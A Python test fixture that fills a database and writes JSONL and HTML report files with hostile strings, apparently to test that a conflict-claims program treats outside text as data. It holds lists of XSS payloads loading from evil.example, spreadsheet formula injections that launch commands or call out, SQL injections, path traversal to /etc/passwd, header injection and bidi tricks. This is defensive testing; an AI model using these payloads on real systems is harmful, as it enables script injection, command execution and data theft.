"""Texts that try to act where they should be read, in every field that comes from outside."""

import html
import json
from pathlib import Path
from typing import Any

from stories import CONFLICT, claim, document

from db import open_db, store

ACT = "window.taken=1;document.title='taken';alert(1)"
HOST = "evil.example"
SCRIPTS = [
    f"<script>{ACT}</script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<ScRiPt>{ACT}</sCrIpT>",
    f"</script><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"<<script>{ACT}//<</script>",
    f'<img src=x onerror="{ACT}">',
    f"<img src=//{HOST}/x.png>",
    f"<img srcset='//{HOST}/x.png 1x'>",
    f'<svg onload="{ACT}">',
    f"<svg><script>{ACT}</script></svg>",
    f'<svg><animate onbegin="{ACT}" attributeName=x dur=1s>',
    f'<body onload="{ACT}">',
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f"<iframe src=//{HOST}/></iframe>",
    f"<object data=//{HOST}/x.swf></object>",
    f"<embed src=//{HOST}/x.swf>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<style>@import url(//{HOST}/x.css)</style>",
    f'<div style="background:url(//{HOST}/x.png)">x</div>',
    f"<base href=//{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f'<form action=//{HOST}/><button autofocus onfocus="{ACT}">x</button></form>',
    f'<details open ontoggle="{ACT}"><summary>x</summary></details>',
    f'<video autoplay onplay="{ACT}" src=//{HOST}/x.mp4></video>',
    f'<audio src=//{HOST}/x.mp3 onerror="{ACT}">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{ACT}">',
    f'" onmouseover="{ACT}" x="',
    f"' onfocus='{ACT}' autofocus tabindex='1",
    f'"><script>{ACT}</script>',
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script><![CDATA[",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"＜script＞{ACT}＜/script＞",
    f'<a href="javascript:{ACT}">x</a>',
]
ADDRESSES = [
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f" \x01javascript:{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    f"vbscript:{ACT}",
    f'https://user:word@{HOST}/"onclick="{ACT}',
    "file:///etc/passwd",
]
MARKDOWN = [
    f"[x](javascript:{ACT})",
    f"![x](https://{HOST}/x.png)",
    f"[x]: https://{HOST}/ 'x'",
    f"<https://{HOST}/>",
    "**bold** _italic_ `code` ~~gone~~ # head",
    ":material/delete: :red[red] :smile: $x^2$",
    "```\ncode\n```",
]
FORMULAS = [
    "=1+1",
    f'=HYPERLINK("http://{HOST}/","x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    f'=IMPORTXML("http://{HOST}/","//a")',
    f'=WEBSERVICE("http://{HOST}/")',
]
ORDER = [
    "\u202egnp.exe\u202c",
    "\u2066a\u2067b\u2068c\u2069",
    "\u200fright\u200eleft",
    "\ufeffhidden\u2060joined\u2063",
    "null\x00byte",
    "bell\x07 escape\x1b[31m delete\x7f",
]
QUERIES = [
    "'; DROP TABLE claims; --",
    '" OR 1=1 --',
    "') UNION SELECT sql FROM sqlite_master --",
    'NEAR(a b) AND {sentence}: "',
    "claims_fts MATCH 'x*'",
    "${7*7} {{7*7}} #{7*7} <%= 7*7 %>",
    "../../../../etc/passwd",
    "%0d%0aSet-Cookie: taken=1",
    "long " * 2000,
]
PAYLOADS = [*SCRIPTS, *ADDRESSES, *MARKDOWN, *FORMULAS, *ORDER, *QUERIES]
UNSEEN = "\u202e\u202c\u2066\u2067\u2068\u2069\u200f\u200e\ufeff\u2060\u2063\x00\x07\x1b\x7f"


def hostile_document(number: int, payload: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """Return a document whose every field is the payload, with two claims whose every field is."""
    first, second = f"{payload} said that {payload} had struck {payload}.", f"{payload} denied {payload}."
    text = f"{first}\n{second}"
    place = {"name": payload, "span": (0, 1), "region": "UA-65", "latitude": 46.6, "longitude": 32.6}
    fields = {"speaker": payload, "via": payload, "target": payload, "weapon": payload, "unit": payload,
              "count": number, "rule": payload, "places": (place,), "regions": ("UA-65",),
              "date_from": "2025-04-01", "date_to": f"2025-04-{1 + number % 28:02}"}  # fmt: skip
    one = document(f"doc-{number}", text, payload, payload, "2025-04-28")
    one |= {"url": payload, "source": payload, "kind": "report"}
    by = "Russia" if number % 2 else payload
    return one, [
        claim(text, first, "alleges", by, "Ukraine" if number % 3 else payload, **fields),
        claim(text, second, "denies", payload, payload, **fields),
    ]


def fill(path: Path) -> None:
    """Fill a database: hostile names of the conflict, and a document for each payload and for all at once."""
    names = {"name": "ukraine", "title": PAYLOADS[0] + MARKDOWN[0] + ORDER[0]}
    regions = [{**region, "name": f"{SCRIPTS[8]}{ORDER[0]}"} for region in CONFLICT["regions"]]
    truces = [{**truce, "name": f"{SCRIPTS[8]}{MARKDOWN[0]}"} for truce in CONFLICT["agreements"]]
    db = open_db(path)
    try:
        store.put_conflict(db, {**CONFLICT, **names, "regions": regions, "agreements": truces})
        for number, payload in enumerate(PAYLOADS, start=1):
            store.put_document(db, *hostile_document(number, payload), "1")
        store.put_document(db, *hostile_document(0, " | ".join(PAYLOADS)[:60_000]), "1")
        run = store.start_run(db, "ingest", None, "1")
        for payload in PAYLOADS:
            store.put_failure(db, run, payload, payload)
        store.finish_run(db, run, {})
    finally:
        db.close()


def reported(number: int, payload: str) -> dict[str, str]:
    """Return a line of a `.jsonl` file: a report with the payload in every field, and in its claims."""
    within = payload[:500]
    text = (
        f"{payload}\n\nRussia's defence ministry said on Tuesday that Ukrainian drones had struck a depot "
        f'called {within} in the Kursk region.\n\n"We hit nothing, {within}," Ukraine\'s general staff said, '
        f"denying the strike.\n\nGovernor Ivan {within} said that Ukrainian drones had cut power lines near "
        "Belgorod."
    )
    address = f"https://news.example/{number}?q={payload[:500]}"
    return {"text": text, "title": payload, "publisher": payload, "url": address, "published": "2025-04-02"}


def write_reports(folder: Path) -> list[Path]:
    """Write the reports as files that the program reads: JSON lines and, for some, pages."""
    lines = folder / "reports.jsonl"
    reports = [reported(number, payload) for number, payload in enumerate(PAYLOADS)]
    lines.write_text("".join(f"{json.dumps(one)}\n" for one in reports), encoding="utf-8")
    pages = []
    for number, payload in enumerate((*SCRIPTS[:3], *FORMULAS[:2], *ORDER[:2])):
        told = [html.escape(part) for part in reported(number, payload)["text"].split("\n\n")]
        title, section = html.escape(payload), html.escape(payload)
        page = folder / f"{number}.html"
        page.write_text(
            f'<html><head><title>{title}</title><meta property="article:section" content="{section}">'
            f'<meta property="og:site_name" content="{section}"></head><body><article><h1>{title}</h1>'
            + "".join(f"<p>{part}</p>" for part in told)
            + "</article></body></html>",
            encoding="utf-8",
        )
        pages.append(page)
    return [lines, *pages]
